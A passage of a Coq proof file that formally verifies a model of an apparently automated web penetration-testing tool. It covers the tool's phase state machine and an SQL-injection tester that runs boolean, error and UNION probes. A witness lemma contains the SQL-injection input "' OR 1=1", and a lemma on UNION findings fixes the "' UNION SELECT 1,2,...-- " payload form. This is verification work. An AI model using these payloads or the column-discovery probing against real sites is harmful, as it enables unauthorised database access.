  intros Hty [A B C]. unfold _add_security_mechanism.
  destruct (List.existsb _ _) eqn:E; [split; assumption|].
  split; cbn [security_mechanisms input_points]; [| |exact C].
  - rewrite List.map_app. apply NoDup_snoc; [exact A|].
    apply not_recorded, E.
  - apply List.Forall_app. split; [exact B|]. constructor; [exact Hty | constructor].
Qed.

Lemma add_input_point_distinct (sel ctx : string) (now : Z) (s : t) :
  distinct_records s -> distinct_records (_add_input_point sel ctx now s).
Proof.
  intros [A B C]. unfold _add_input_point.
  destruct (List.existsb _ _) eqn:E; [split; assumption|].
  split; cbn [security_mechanisms input_points]; [exact A | exact B|].
  rewrite List.map_app. apply NoDup_snoc; [exact C|].
  apply not_recorded, E.
Qed.

Lemma update_recon_distinct (ty c : string) (now : Z) (s : t) :
  distinct_records s -> distinct_records (update_recon ty c now s).
Proof.
  intros H. unfold update_recon, when, add_progress.
  repeat match goal with
         | |- distinct_records (if ?b then _ else _) => destruct b
         | |- distinct_records (set_progress _ ?x) =>
             apply (@distinct_records_ext x); [reflexivity | reflexivity |]
         | |- distinct_records (_add_input_point _ _ _ _) =>
             apply add_input_point_distinct
         | |- distinct_records (_add_security_mechanism _ _ _ _) =>
             apply add_mechanism_distinct; [simpl; auto|]
         end; exact H.
Qed.

Lemma update_state_distinct (ty c : string) (now : Z) (s : t) :
  distinct_records s -> distinct_records (_update_state_from_command ty c now s).
Proof.
  intros H. destruct (Z.eq_dec s.(current_phase) PHASE_RECON) as [Hr | Hr].
  - unfold _update_state_from_command. rewrite Hr.
    change (PHASE_RECON =? PHASE_RECON) with true. cbv iota zeta.
    match goal with
    | |- distinct_records (_check_phase_transition ?x) =>
        destruct (check_transition_steps x) as (_ & Q & R & _);
        apply (@distinct_records_ext _ _ Q R)
    end.
    apply (@distinct_records_ext (update_recon ty c now s)); [reflexivity..|].
    apply update_recon_distinct, H.
  - destruct (@update_state_later ty c now s Hr) as (_ & Q & R & _).
    apply (@distinct_records_ext _ _ Q R H).
Qed.

Lemma process_command_distinct (command : string) (now : Z) (s : t) :
  distinct_records s -> distinct_records (snd (process_command command now s)).
Proof.
  intros H. destruct (PyStr.truthy command) eqn:Hc.
  - destruct (@process_command_records command now s Hc) as [R _].
    unfold records in R. injection R as Rm Ri _.
    apply (@distinct_records_ext _ _ Rm Ri).
    apply update_state_distinct.
    apply (@distinct_records_ext s); [reflexivity..|exact H].
  - unfold process_command. rewrite Hc. exact H.
Qed.

Lemma run_distinct (cmds : list (string * Z)) (s : t) :
  distinct_records s -> distinct_records (run cmds s).
Proof.
  revert s. induction cmds as [|c cmds IH]; intros s H; simpl; auto.
  apply IH, process_command_distinct, H.
Qed.

(** X5.  After any batch of commands no type of security mechanism and no
    selector of an input point is recorded twice; the mechanisms are of
    the types captcha and csrf, so that two at most are ever recorded. *)
Theorem records_are_distinct (cmds : list (string * Z)) :
  let s := run cmds init in
  List.NoDup (List.map mech_type s.(security_mechanisms)) /\
  List.NoDup (List.map selector s.(input_points)) /\
  List.Forall (fun m => m.(mech_type) = "captcha" \/ m.(mech_type) = "csrf")
              s.(security_mechanisms) /\
  (List.length s.(security_mechanisms) <= 2)%nat.
Proof.
  intros s.
  assert (H : distinct_records s).
  { apply run_distinct. split; simpl; constructor. }
  destruct H as [A B C]. repeat split; auto.
  - eapply List.Forall_impl; [|exact B].
    intros m [Hm | [Hm | []]]; auto.
  - rewrite <- (List.length_map mech_type).
    change 2%nat with (List.length mechanism_types).
    apply List.NoDup_incl_length; [exact A|].
    intros ty Hin. apply List.in_map_iff in Hin. destruct Hin as (m & <- & Hin).
    rewrite List.Forall_forall in B. apply B, Hin.
Qed.

(** The transition check moves the phase by one step, from the first
    three phases only. *)
Lemma check_transition_cases (s : t) :
  let s' := _check_phase_transition s in
  s'.(current_phase) = s.(current_phase) \/
  (s'.(current_phase) = s.(current_phase) + 1 /\
   PHASE_RECON <= s.(current_phase) < PHASE_EXPLOIT).
Proof.
  cbv zeta. unfold _check_phase_transition, PHASE_RECON, PHASE_BASELINE,
    PHASE_PLANNING, PHASE_EXPLOIT.
  branch_ifs; simpl;
    repeat match goal with
           | H : (_ && _)%bool = true |- _ => apply andb_true_iff in H; destruct H
           end;
    repeat match goal with
           | H : (_ =? _) = true |- _ => apply Z.eqb_eq in H
           end;
    auto; right; lia.
Qed.

Lemma update_state_phase (ty c : string) (now : Z) (s : t) :
  let s' := _update_state_from_command ty c now s in
  s'.(current_phase) = s.(current_phase) \/
  (s'.(current_phase) = s.(current_phase) + 1 /\
   PHASE_RECON <= s.(current_phase) < PHASE_EXPLOIT).
Proof.
  cbv zeta. unfold _update_state_from_command.
  set (s1 := if current_phase s =? PHASE_RECON then _ else _).
  assert (H1 : s1.(current_phase) = s.(current_phase)).
  { subst s1. branch_ifs.
    - apply update_recon_fields.
    - apply update_baseline_progress_only.
    - apply update_planning_progress_only.
    - apply update_exploit_progress_only.
    - reflexivity. }
  clearbody s1.
  pose proof (check_transition_cases (set_progress (Z.min 100 s1.(phase_progress)) s1))
    as H.
  cbv zeta in H. cbn [set_progress current_phase] in H. rewrite H1 in H. exact H.
Qed.

Lemma process_command_phase (command : string) (now : Z) (s : t) :
  let s' := snd (process_command command now s) in
  s'.(current_phase) = s.(current_phase) \/
  (s'.(current_phase) = s.(current_phase) + 1 /\
   PHASE_RECON <= s.(current_phase) < PHASE_EXPLOIT).
Proof.
  cbv zeta. pose proof (process_command_core command now s) as Hc.
  destruct (PyStr.truthy command).
  - unfold core in Hc. injection Hc as Hph _ _ _. rewrite Hph.
    apply (update_state_phase (verb_of command) (content_of command) now
             (bump_counter s)).
  - unfold core in Hc. injection Hc as Hph _ _ _. left. exact Hph.
Qed.

Lemma process_command_later (command : string) (now : Z) (s : t) :
  s.(current_phase) <> PHASE_RECON ->
  let s' := snd (process_command command now s) in
  s'.(security_mechanisms) = s.(security_mechanisms) /\
  s'.(input_points) = s.(input_points).
Proof.
  intros Hr. cbv zeta. destruct (PyStr.truthy command) eqn:Hc.
  - destruct (@process_command_records command now s Hc) as [R _].
    unfold records in R. injection R as Rm Ri _.
    destruct (@update_state_later (verb_of command) (content_of command) now
                (bump_counter s) Hr) as (_ & Q & T & _).
    rewrite Rm, Ri, Q, T. split; reflexivity.
  - unfold process_command. rewrite Hc. split; reflexivity.
Qed.

(** X6.  Once the reconnaissance phase is left, no batch of commands
    records a security mechanism or an input point any more; the phase
    moves forward only, and the exploitation phase is never left. *)
Theorem records_frozen_after_recon (s : t) (cmds : list (string * Z)) :
  PHASE_RECON < s.(current_phase) ->
  let s' := run cmds s in
  s'.(security_mechanisms) = s.(security_mechanisms) /\
  s'.(input_points) = s.(input_points) /\
  s.(current_phase) <= s'.(current_phase) /\
  (s.(current_phase) = PHASE_EXPLOIT -> s'.(current_phase) = PHASE_EXPLOIT).
Proof.
  revert s. induction cmds as [|c cmds IH]; intros s Hp; cbv zeta.
  - simpl. repeat split; auto. lia.
  - change (run (c :: cmds) s)
      with (run cmds (snd (process_command (fst c) (snd c) s))).
    set (s1 := snd (process_command (fst c) (snd c) s)).
    assert (Hr : s.(current_phase) <> PHASE_RECON) by lia.
    destruct (@process_command_later (fst c) (snd c) s Hr) as [Hm Hi].
    pose proof (process_command_phase (fst c) (snd c) s) as Hph.
    cbv zeta in Hph. fold s1 in Hm, Hi, Hph.
    assert (Hp1 : PHASE_RECON < s1.(current_phase)) by (destruct Hph as [E | [E _]]; lia).
    destruct (IH s1 Hp1) as (A & B & C & D).
    rewrite A, B, Hm, Hi. repeat split.
    + destruct Hph as [E | [E _]]; lia.
    + intros He. apply D. destruct Hph as [E | [E F]]; [congruence|].
      rewrite He in F. lia.
Qed.

(** The fields the update of the state leaves alone. *)
Definition settings (s : t) : list (Z * bool) * Z * Z * Z :=
  (s.(phase_intro_sent), s.(command_counter), s.(last_guidance_time),
   s.(guidance_interval)).

Lemma add_mechanism_settings ty d now s :
  settings (_add_security_mechanism ty d now s) = settings s.
Proof. unfold _add_security_mechanism. destruct (List.existsb _ _); reflexivity. Qed.

Lemma add_input_point_settings sel ctx now s :
  settings (_add_input_point sel ctx now s) = settings s.
Proof. unfold _add_input_point. destruct (List.existsb _ _); reflexivity. Qed.

Lemma plan_discoveries_settings terms lowered now s :
  settings (plan_discoveries terms lowered now s) = settings s.
Proof.
  revert s. induction terms as [|term terms IH]; intros s; simpl; auto.
  rewrite IH. unfold when. destruct (PyStr.contains _ _); reflexivity.
Qed.

(** Rewrites the settings of a composed update down to those of its
    argument. *)
Ltac settle_settings :=
  repeat match goal with
         | |- context [settings (if ?b then _ else _)] => destruct b
         | |- context [settings (set_progress ?v ?x)] =>
             change (settings (set_progress v x)) with (settings x)
         | |- context [settings (_add_discovery ?d ?n ?x)] =>
             change (settings (_add_discovery d n x)) with (settings x)
         | |- context [settings (enter_phase ?p ?x)] =>
             change (settings (enter_phase p x)) with (settings x)
         | |- context [settings (_add_security_mechanism _ _ _ _)] =>
             rewrite add_mechanism_settings
         | |- context [settings (_add_input_point _ _ _ _)] =>
             rewrite add_input_point_settings
         | |- context [settings (plan_discoveries _ _ _ _)] =>
             rewrite plan_discoveries_settings
         end.

Lemma update_state_settings (ty c : string) (now : Z) (s : t) :
  settings (_update_state_from_command ty c now s) = settings s.
Proof.
  unfold _update_state_from_command, _check_phase_transition.
  cbv zeta. settle_settings;
    unfold update_recon, update_baseline, update_planning, update_exploit,
      when, add_progress;
    settle_settings; reflexivity.
Qed.

Lemma dict_get_set (p k : Z) (v default : bool) (d : list (Z * bool)) :
  dict_get p default (dict_set k v d) = if p =? k then v else dict_get p default d.
Proof.
  induction d as [|[k' v'] d IH]; simpl.
  - rewrite (Z.eqb_sym k p). reflexivity.
  - destruct (Z.eqb_spec k' k) as [-> | Hk]; simpl.
    + rewrite (Z.eqb_sym k p). destruct (p =? k); reflexivity.
    + rewrite IH. destruct (Z.eqb_spec k' p) as [-> | Hp]; [|reflexivity].
      destruct (Z.eqb_spec p k); [contradiction | reflexivity].
Qed.

Lemma startswith_app (p s : string) : PyStr.startswith p (p ++ s) = true.
Proof.
  unfold PyStr.startswith. induction p as [|c p IH]; simpl.
  - destruct s; reflexivity.
  - destruct (ascii_dec c c) as [_ | H]; [exact IH | contradiction].
Qed.

(** The introductions sent so far are those of the phases entered so
    far. *)
Record intro_flags (s : t) : Prop := {
  if_phase : PHASE_RECON <= s.(current_phase) <= PHASE_EXPLOIT;
  if_sent : forall p, PHASE_RECON <= p <= PHASE_EXPLOIT ->
            dict_get p true s.(phase_intro_sent) = (p <=? s.(current_phase))
}.

(** A message that is a periodic hint or a feedback on the command. *)
Definition hint_or_feedback (message : option string) : Prop :=
  message = None \/
  exists m, message = Some m /\
            (PyStr.startswith "[系统提示] " m = true \/
             PyStr.startswith "[系统反馈] " m = true).

Lemma event_guidance_feedback (ty c : string) (s : t) :
  hint_or_feedback (nonempty (_check_event_guidance ty c s)).
Proof.
  unfold _check_event_guidance. branch_ifs;
    solve [ left; reflexivity
          | right; eexists; split; [reflexivity | right; reflexivity] ].
Qed.

Lemma phase_intro_text_set (p : Z) :
  PHASE_RECON < p <= PHASE_EXPLOIT ->
  nonempty (phase_intro_text p) = phase_intro_text p /\ phase_intro_text p <> None.
Proof.
  unfold PHASE_RECON, PHASE_EXPLOIT. intros H.
  assert (E : p = 2 \/ p = 3 \/ p = 4) by lia.
  destruct E as [-> | [-> | ->]]; split; solve [reflexivity | discriminate].
Qed.

Lemma process_command_intro (command : string) (now : Z) (s : t) :
  intro_flags s ->
  let r := process_command command now s in
  intro_flags (snd r) /\
  ((snd r).(current_phase) <> s.(current_phase) ->
   fst r = phase_intro_text (snd r).(current_phase) /\ fst r <> None) /\
  ((snd r).(current_phase) = s.(current_phase) -> hint_or_feedback (fst r)).
Proof.
  intros [Hph Hsent]. cbv zeta. destruct (PyStr.truthy command) eqn:Hc.
  2:{ unfold process_command. rewrite Hc. cbn [negb fst snd].
      split; [split; assumption|].
      split; [intros H; contradiction | intros _; left; reflexivity]. }
  rewrite (@process_command_steps command now s Hc). cbv zeta.
  set (u := _update_state_from_command _ _ _ _).
  assert (Hset : u.(phase_intro_sent) = s.(phase_intro_sent)).
  { pose proof (update_state_settings (verb_of command) (content_of command) now
                  (bump_counter s)) as E.
    fold u in E. unfold settings in E. injection E as E _ _ _. exact E. }
  pose proof (update_state_phase (verb_of command) (content_of command) now
                (bump_counter s)) as Hu.
  cbv zeta in Hu. fold u in Hu.
  change (current_phase (bump_counter s)) with (current_phase s) in Hu.
  unfold _check_phase_intro. rewrite Hset.
  destruct Hu as [E | [E Hlt]].
  - rewrite E, Hsent by exact Hph. rewrite Z.leb_refl. cbn [negb nonempty].
    pose proof (should_send_guidance_core now u) as Hcore.
    destruct (should_send_guidance_records now u) as (_ & _ & Hs).
    destruct (_should_send_guidance now u) as [send s4]. cbn [snd] in Hcore, Hs.
    unfold core in Hcore. injection Hcore as Hp4 _ _ _.
    assert (Hflags : intro_flags s4).
    { split; rewrite Hp4, ?Hs, ?Hset, E; auto. }
    destruct send; cbn [fst snd]; rewrite Hp4, E;
      (split; [exact Hflags | split; [intros Hn; contradiction | intros _]]).
    + right. eexists. split; [reflexivity|]. left.
      unfold _get_guidance_message. apply startswith_app.
    + apply event_guidance_feedback.
  - assert (Hnew : PHASE_RECON < current_phase u <= PHASE_EXPLOIT)
      by (unfold PHASE_RECON, PHASE_EXPLOIT in *; lia).
    rewrite Hsent by (unfold PHASE_RECON, PHASE_EXPLOIT in *; lia).
    replace (current_phase u <=? current_phase s) with false
      by (symmetry; apply Z.leb_gt; lia).
    cbn [negb]. destruct (phase_intro_text_set Hnew) as [Hne Hsome].
    rewrite Hne.
    destruct (phase_intro_text (current_phase u)) as [m|] eqn:Htext;
      [|contradiction].
    cbn [fst snd current_phase phase_intro_sent]. split; [|split].
    + split; cbn [current_phase phase_intro_sent].
      * unfold PHASE_RECON, PHASE_EXPLOIT in *; lia.
      * intros p Hp. rewrite dict_get_set, E.
        destruct (Z.eqb_spec p (current_phase s + 1)) as [-> | Hne'].
        -- symmetry. apply Z.leb_refl.
        -- rewrite Hsent by exact Hp.
           destruct (Z.leb_spec p (current_phase s));
             destruct (Z.leb_spec p (current_phase s + 1)); auto; lia.
    + intros _. rewrite Htext. split; [reflexivity | discriminate].
    + intros Hsame. lia.
Qed.

Lemma run_intro_flags (cmds : list (string * Z)) (s : t) :
  intro_flags s -> intro_flags (run cmds s).
Proof.
  revert s. induction cmds as [|c cmds IH]; intros s H; simpl; auto.
  apply IH. apply (process_command_intro (fst c) (snd c) H).
Qed.

Lemma init_intro_flags : intro_flags init.
Proof.
  split; [simpl; unfold PHASE_RECON, PHASE_EXPLOIT; lia|].
  unfold PHASE_RECON, PHASE_EXPLOIT. intros p Hp.
  assert (E : p = 1 \/ p = 2 \/ p = 3 \/ p = 4) by lia.
  destruct E as [-> | [-> | [-> | ->]]]; reflexivity.
Qed.

(** X7.  After any batch of commands, the command that moves the machine
    to a new phase returns the introduction of that phase, and a command
    that leaves the phase as it is returns nothing, a periodic hint or a
    feedback on the command: the introduction of a phase is sent on
    entering it, and only then. *)
Theorem phase_intro_on_transition (cmds : list (string * Z)) (command : string)
    (now : Z) :
  let s := run cmds init in
  let r := process_command command now s in
  ((snd r).(current_phase) <> s.(current_phase) ->
   fst r = phase_intro_text (snd r).(current_phase) /\ fst r <> None) /\
  ((snd r).(current_phase) = s.(current_phase) ->
   fst r = None \/
   exists m, fst r = Some m /\
             (PyStr.startswith "[系统提示] " m = true \/
              PyStr.startswith "[系统反馈] " m = true)).
Proof.
  intros s r.
  destruct (@process_command_intro command now s) as (_ & A & B).
  - apply run_intro_flags, init_intro_flags.
  - split; [exact A | exact B].
Qed.

Lemma check_phase_intro_clock (s : t) :
  let s' := snd (_check_phase_intro s) in
  s'.(command_counter) = s.(command_counter) /\
  s'.(last_guidance_time) = s.(last_guidance_time) /\
  s'.(guidance_interval) = s.(guidance_interval).
Proof. unfold _check_phase_intro. destruct (negb _); repeat split; reflexivity. Qed.

(** X8.  The command counter counts the commands that are not empty: an
    empty command returns no message and leaves the whole state as it is,
    every other command adds one to the counter. *)
Theorem command_counter_counts (cmds : list (string * Z)) (s : t) (now : Z) :
  (run cmds s).(command_counter)
  = s.(command_counter)
    + Z.of_nat (List.length (List.filter (fun c => PyStr.truthy (fst c)) cmds)) /\
  process_command EmptyString now s = (None, s).
Proof.
  split; [|reflexivity].
  revert s. induction cmds as [|c cmds IH]; intros s.
  - simpl. lia.
  - change (run (c :: cmds) s)
      with (run cmds (snd (process_command (fst c) (snd c) s))).
    rewrite IH. cbn [List.filter].
    destruct (PyStr.truthy (fst c)) eqn:Hc.
    + destruct (@process_command_records (fst c) (snd c) s Hc) as [_ E].
      rewrite E.
      pose proof (update_state_settings (verb_of (fst c)) (content_of (fst c)) (snd c)
                    (bump_counter s)) as F.
      unfold settings in F. injection F as _ F _ _. rewrite F.
      cbn [bump_counter command_counter List.length]. lia.
    + unfold process_command. rewrite Hc. cbn [negb snd]. lia.
Qed.

(** X9.  A command changes the time of the last periodic hint only by
    sending one: the message returned is then a hint, the number of the
    command is a multiple of 10, and the interval of the hints has elapsed
    since the previous one. *)
Theorem periodic_hint_is_throttled (command : string) (now : Z) (s : t) :
  let r := process_command command now s in
  (snd r).(last_guidance_time) = s.(last_guidance_time) \/
  ((snd r).(last_guidance_time) = now /\
   (s.(command_counter) + 1) mod 10 = 0 /\
   s.(guidance_interval) <= now - s.(last_guidance_time) /\
   (snd r).(command_counter) = s.(command_counter) + 1 /\
   exists m, fst r = Some m /\ PyStr.startswith "[系统提示] " m = true).
Proof.
  cbv zeta. destruct (PyStr.truthy command) eqn:Hc.
  2:{ unfold process_command. rewrite Hc. left. reflexivity. }
  rewrite (@process_command_steps command now s Hc). cbv zeta.
  set (u := _update_state_from_command _ _ _ _).
  pose proof (update_state_settings (verb_of command) (content_of command) now
                (bump_counter s)) as F.
  fold u in F. unfold settings in F. injection F as _ Fc Ft Fi.
  cbn [bump_counter command_counter last_guidance_time guidance_interval] in Fc, Ft, Fi.
  destruct (check_phase_intro_clock u) as (Gc & Gt & Gi).
  destruct (_check_phase_intro u) as [intro s3]. cbn [snd] in Gc, Gt, Gi.
  destruct (nonempty intro); [left; cbn [snd]; congruence|].
  unfold _should_send_guidance.
  destruct (Z.ltb_spec (now - last_guidance_time s3) (guidance_interval s3));
    [left; cbn [snd]; congruence|].
  destruct (Z.eqb_spec (command_counter s3 mod 10) 0) as [Hm | Hm]; cbn [negb];
    [|left; cbn [snd]; congruence].
  right. cbn [fst snd last_guidance_time command_counter].
  split; [reflexivity|]. split; [congruence|]. split; [lia|]. split; [congruence|].
  eexists. split; [reflexivity|].
  unfold _get_guidance_message. apply startswith_app.
Qed.

End PhaseRecords.

(** In the exploitation phase a THINK command that names a CSRF token and
    a TYPE command on a new field record nothing, and the phase stays. *)
Lemma records_frozen_after_recon_witness :
  let s := TestFramework.enter_phase TestFramework.PHASE_EXPLOIT TestFramework.init in
  let s' := TestFramework.run [("THINK csrf token", 5); ("TYPE #q ' OR 1=1", 6)] s in
  s'.(TestFramework.security_mechanisms) = [] /\
  s'.(TestFramework.input_points) = [] /\
  s'.(TestFramework.current_phase) = TestFramework.PHASE_EXPLOIT.
Proof.
  intros s s'.
  destruct (@records_frozen_after_recon s
              [("THINK csrf token", 5); ("TYPE #q ' OR 1=1", 6)])
    as (A & B & _ & D).
  - vm_compute. reflexivity.
  - split; [exact A | split; [exact B | apply D; reflexivity]].
Defined.

(** ** The SQL-injection tester: what a test of an input point leaves *)

Section TesterOutcomes.

Import SQLInjectionTester.

Variable W : Type.
Variable page : ops W.

Local Abbreviation state := (SQLInjectionTester.t W).
Local Abbreviation step := (SQLInjectionTester.step W).

(** A step that writes neither the log of the test nor the column
    count. *)
Definition keeps_log {A : Type} (m : step A) : Prop :=
  forall s, (snd (m s)).(test_details) = s.(test_details) /\
            (snd (m s)).(column_count) = s.(column_count).

Lemma keeps_log_bind {A B : Type} (m : step A) (k : A -> step B) :
  keeps_log m -> (forall x, keeps_log (k x)) -> keeps_log (bind m k).
Proof.
  intros Hm Hk s. unfold bind. destruct (Hm s) as [E1 E2].
  destruct (m s) as [[x|e] s1]; cbn [snd] in *.
  - destruct (Hk x s1) as [F1 F2]. split; congruence.
  - split; assumption.
Qed.

Lemma keeps_log_ret {A : Type} (x : A) : keeps_log (ret (W := W) x).
Proof. intros s. split; reflexivity. Qed.

Lemma keeps_log_perform {A : Type} (c : call) (f : W -> outcome A * W) :
  keeps_log (perform c f).
Proof. intros s. unfold perform. destruct (f (world s)). split; reflexivity. Qed.

Lemma keeps_log_pause : keeps_log (pause page).
Proof. intros s. split; reflexivity. Qed.

Lemma keeps_log_submit (sel value : string) :
  keeps_log (_input_and_submit page sel value).
Proof.
  assert (H : keeps_log (submit_body page sel value)).
  { unfold submit_body.
    apply keeps_log_bind; [apply keeps_log_perform | intros _].
    apply keeps_log_bind; [apply keeps_log_perform | intros _].
    apply keeps_log_bind; [apply keeps_log_perform | intros form].
    apply keeps_log_bind.
    - destruct form; [apply keeps_log_perform | apply keeps_log_ret].
    - intros [|]; apply keeps_log_perform. }
  intros s. exact (H s).
Qed.

Lemma keeps_log_response_to (sel value : string) :
  keeps_log (response_to page sel value).
Proof.
  unfold response_to, get_page_text, back.
  apply keeps_log_bind; [apply keeps_log_submit | intros _].
  apply keeps_log_bind; [apply keeps_log_pause | intros _].
  apply keeps_log_bind; [apply keeps_log_perform | intros content].
  apply keeps_log_bind; [apply keeps_log_perform | intros _].
  apply keeps_log_bind; [apply keeps_log_pause | intros _].
  apply keeps_log_ret.
Qed.

Lemma keeps_log_boolean_pairs (sel : string) (payloads : list string) :
  keeps_log (boolean_pairs page sel payloads).
Proof.
  revert payloads.
  fix IH 1. intros [|t [|f rest]]; cbn [boolean_pairs].
  - apply keeps_log_ret.
  - apply keeps_log_ret.
  - apply keeps_log_bind; [apply keeps_log_response_to | intros tc].
    apply keeps_log_bind; [apply keeps_log_response_to | intros fc].
    destruct (_ && _)%bool; [apply keeps_log_ret | apply IH].
Qed.

Lemma keeps_log_error_payloads (sel : string) (payloads : list string) :
  keeps_log (error_payloads page sel payloads).
Proof.
  induction payloads as [|v rest IH]; cbn [error_payloads].
  - apply keeps_log_ret.
  - unfold get_page_text, back.
    apply keeps_log_bind; [apply keeps_log_submit | intros _].
    apply keeps_log_bind; [apply keeps_log_pause | intros _].
    apply keeps_log_bind; [apply keeps_log_perform | intros content].
    cbv zeta.
    apply keeps_log_bind; [apply keeps_log_perform | intros _].
    apply keeps_log_bind; [apply keeps_log_pause | intros _].
    destruct (List.find _ _); [apply keeps_log_ret | exact IH].
Qed.

Lemma keeps_log_order_by_bases (sel : string) (i : Z) (bases : list string) :
  keeps_log (order_by_bases_loop page sel i bases).
Proof.
  induction bases as [|base rest IH]; cbn [order_by_bases_loop].
  - apply keeps_log_ret.
  - cbv zeta. unfold get_page_text, back.
    apply keeps_log_bind; [apply keeps_log_submit | intros _].
    apply keeps_log_bind; [apply keeps_log_pause | intros _].
    apply keeps_log_bind; [apply keeps_log_perform | intros content].
    destruct (PyStr.contains_any _ _); [apply keeps_log_ret|].
    apply keeps_log_bind; [apply keeps_log_perform | intros _].
    apply keeps_log_bind; [apply keeps_log_pause | intros _].
    exact IH.
Qed.

Lemma keeps_log_order_by_loop (sel : string) (indices : list Z) (count : Z)
    (probe : string) :
  keeps_log (order_by_loop page sel indices count probe).
Proof.
  revert count probe.
  induction indices as [|i rest IH]; intros count probe; cbn [order_by_loop].
  - apply keeps_log_ret.
  - apply keeps_log_bind; [apply keeps_log_order_by_bases | intros found].
    destruct (match found with Some r => r | None => (count, probe) end) as [c v].
    destruct (c >? 0); [apply keeps_log_ret | apply IH].
Qed.

Lemma keeps_log_union (sel original_content : string) :
  keeps_log (_test_union_injection page sel original_content).
Proof.
  unfold _test_union_injection, discover_columns, get_page_text, back.
  apply keeps_log_bind; [apply keeps_log_order_by_loop | intros discovered].
  cbv zeta. destruct (fst discovered >? 0); [|apply keeps_log_ret].
  apply keeps_log_bind; [apply keeps_log_submit | intros _].
  apply keeps_log_bind; [apply keeps_log_pause | intros _].
  apply keeps_log_bind; [apply keeps_log_perform | intros content].
  apply keeps_log_bind; [apply keeps_log_perform | intros _].
  apply keeps_log_bind; [apply keeps_log_pause | intros _].
  destruct (reflected _ _ _); apply keeps_log_ret.
Qed.

(** A step whose value, when it returns one, satisfies [Q]. *)
Definition yields {A : Type} (Q : A -> Prop) (m : step A) : Prop :=
  forall s r s', m s = (Returns r, s') -> Q r.

Lemma yields_bind {A B : Type} (P : A -> Prop) (Q : B -> Prop) (m : step A)
    (k : A -> step B) :
  yields P m -> (forall x, P x -> yields Q (k x)) -> yields Q (bind m k).
Proof.
  intros Hm Hk s r s' H. unfold bind in H.
  destruct (m s) as [[x|e] s1] eqn:E; [|discriminate].
  eapply Hk; [eapply Hm, E | exact H].
Qed.

Lemma yields_any {A : Type} (m : step A) : yields (fun _ => True) m.
Proof. intros s r s' _. exact I. Qed.

Lemma yields_then {A B : Type} (Q : B -> Prop) (m : step A) (k : A -> step B) :
  (forall x, yields Q (k x)) -> yields Q (bind m k).
Proof.
  intros Hk. apply (@yields_bind _ _ (fun _ => True) Q); [apply yields_any|].
  intros x _. apply Hk.
Qed.

Lemma yields_ret {A : Type} (Q : A -> Prop) (x : A) :
  Q x -> yields Q (ret (W := W) x).
Proof. intros H s r s' E. injection E as <- _. exact H. Qed.

(** The count an ORDER BY probe reports for [i] is [i - 1]. *)
Lemma order_by_bases_count (sel : string) (i : Z) (bases : list string) :
  yields (fun found => match found with
                       | Some r => fst r = i - 1
                       | None => True
                       end)
         (order_by_bases_loop page sel i bases).
Proof.
  induction bases as [|base rest IH]; cbn [order_by_bases_loop].
  - apply yields_ret. exact I.
  - cbv zeta. apply yields_then. intros _. apply yields_then. intros _.
    apply yields_then. intros content.
    destruct (PyStr.contains_any _ _); [apply yields_ret; reflexivity|].
    apply yields_then. intros _. apply yields_then. intros _. exact IH.
Qed.

Lemma order_by_loop_range (sel : string) (indices : list Z) (count : Z)
    (probe : string) :
  List.Forall (fun i => 1 <= i <= 10) indices -> 0 <= count <= 9 ->
  yields (fun r => 0 <= fst r <= 9) (order_by_loop page sel indices count probe).
Proof.
  intros Hall. revert count probe.
  induction Hall as [|i rest Hi _ IH]; intros count probe Hc; cbn [order_by_loop].
  - apply yields_ret. exact Hc.
  - eapply yields_bind; [apply order_by_bases_count|].
    intros found Hfound.
    assert (Hr : 0 <= fst (match found with
                           | Some r => r
                           | None => (count, probe)
                           end) <= 9).
    { destruct found as [r|]; [rewrite Hfound; lia | exact Hc]. }
    destruct (match found with Some r => r | None => (count, probe) end) as [c v].
    cbn [fst] in Hr.
    destruct (c >? 0); [apply yields_ret; exact Hr | apply IH, Hr].
Qed.

Lemma discover_columns_range (sel : string) :
  yields (fun r => 0 <= fst r <= 9) (discover_columns page sel).
Proof.
  unfold discover_columns. apply order_by_loop_range; [|lia].
  change (one_to 10) with [1; 2; 3; 4; 5; 6; 7; 8; 9; 10].
  repeat constructor; lia.
Qed.

(** A finding of the UNION test carries a column count from 1 to 9, and
    its payload selects that many placeholders. *)
Lemma union_result_range (sel original_content : string) :
  yields (fun r => if r.(vulnerable)
                   then 1 <= r.(columns) <= 9 /\
                        r.(payload) = "' UNION SELECT "
                                      ++ PyStr.join "," (List.map PyStr.of_Z
                                                           (one_to r.(columns)))
                                      ++ "-- "
                   else r.(columns) = 0)
         (_test_union_injection page sel original_content).
Proof.
  unfold _test_union_injection.
  eapply yields_bind; [apply discover_columns_range|].
  intros discovered Hd. cbv beta in Hd. cbv zeta.
  destruct (Z.gtb_spec (fst discovered) 0); [|apply yields_ret; reflexivity].
  apply yields_then. intros _. apply yields_then. intros _.
  apply yields_then. intros content. apply yields_then. intros _.
  apply yields_then. intros _.
  destruct (reflected _ _ _); apply yields_ret; cbn [vulnerable columns payload].
  - split; [lia | reflexivity].
  - reflexivity.
Qed.

(** X10.  When the test of an input point returns [False] it leaves the
    input point and the column count as they were and logs the
    announcement only.  When it returns [True] the point is marked
    vulnerable, the log holds the announcement and one warning, and the
    types of the point are the boolean tag alone, or the types it had
    with the error tag or the UNION tag appended; the column count is
    written by a UNION finding only, with a value from 1 to 9. *)
Theorem input_point_verdict_and_marking (p : input_point) (idx : Z)
    (s s' : state) (verdict : bool) (p' : input_point) :
  _test_input_point page p idx s = (Returns (verdict, p'), s') ->
  if verdict then
    exists types d,
      p' = mark_vulnerable types p /\
      s'.(test_details) = (s.(test_details) ++ [announcement p idx; d])%list /\
      d.(status) = "warning" /\
      ((types = ["sql_injection_boolean"] /\ s'.(column_count) = s.(column_count)) \/
       (types = with_type "sql_injection_error" p /\
        s'.(column_count) = s.(column_count)) \/
       (types = with_type "sql_injection_union" p /\ 1 <= s'.(column_count) <= 9))
  else
    p' = p /\ s'.(column_count) = s.(column_count) /\
    s'.(test_details) = (s.(test_details) ++ [announcement p idx])%list.
Proof.
  intros H. unfold _test_input_point in H. cbv zeta in H.
  unfold bind at 1 in H.
  change (record_test_result (announcement p idx) s)
    with (Returns tt, snd (record_test_result (announcement p idx) s)) in H.
  cbv iota in H.
  set (s0 := snd (record_test_result (announcement p idx) s)) in H.
  assert (D0 : s0.(test_details) = (s.(test_details) ++ [announcement p idx])%list)
    by reflexivity.
  assert (C0 : s0.(column_count) = s.(column_count)) by reflexivity.
  clearbody s0.
  unfold bind at 1 in H.
  destruct (keeps_log_perform InnerText page.(inner_text) s0) as [D1 C1].
  fold (get_page_text page) in D1, C1.
  destruct (get_page_text page s0) as [[original|e] s1]; [|discriminate].
  cbn [snd] in D1, C1.
